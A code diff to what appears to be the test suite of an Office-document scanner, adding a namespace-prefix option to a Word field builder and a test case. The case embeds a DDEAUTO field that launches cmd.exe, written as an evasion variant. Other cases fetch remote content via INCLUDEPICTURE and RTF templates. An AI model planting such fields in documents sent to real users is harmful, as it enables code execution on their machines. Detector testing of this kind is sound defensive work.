@@ -39,13 +39,16 @@ def office(part, rels, kind="docx"):
 	return files.archive(members)
 
 
-def field(code):
-	"""A Word file with a field, its code split over two runs."""
+def field(code, prefix=b"w"):
+	"""A Word file with a field, its code split over two runs; prefix: of Word's namespace."""
 	base = zipfile.ZipFile(io.BytesIO(files.docx("MARK")))
 	members = {n: base.read(n) for n in base.namelist()}
 	runs = ('<w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>%s</w:instrText></w:r><w:r>'
 		'<w:instrText xml:space="preserve">%s</w:instrText>' % (code[:5], code[5:])).encode()
-	members["word/document.xml"] = members["word/document.xml"].replace(b"<w:t>MARK</w:t>", runs)
+	page = members["word/document.xml"].replace(b"<w:t>MARK</w:t>", runs)
+	for before in b"<", b"</", b" ", b"xmlns:":
+		page = page.replace(before + b"w:", before + prefix + b":")
+	members["word/document.xml"] = page.replace(b"xmlns:w=", b"xmlns:" + prefix + b"=")
 	return files.archive(members)
 
 
@@ -166,6 +169,8 @@ TABLE = [
 		DOCX), "a DDE field, split over runs", DOUBT),
 	S("remote-include", extra(field('INCLUDEPICTURE "http://a.example/1.png"'), "bieu_mau.docx", DOCX),
 		"a field that fetches", DOUBT),
+	S("remote-dde-prefix", extra(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k"', b"x"),
+		"bieu_mau.docx", DOCX), "the same under another prefix of the namespace", DOUBT),
 	S("remote-page-field", extra(field(" PAGE \\* MERGEFORMAT"), "bieu_mau.docx", DOCX),
 		"a field with the page number", HONEST),
 	S("remote-rtf-template", rtf(b"{\\*\\template http://a.example/x.dotm}"),
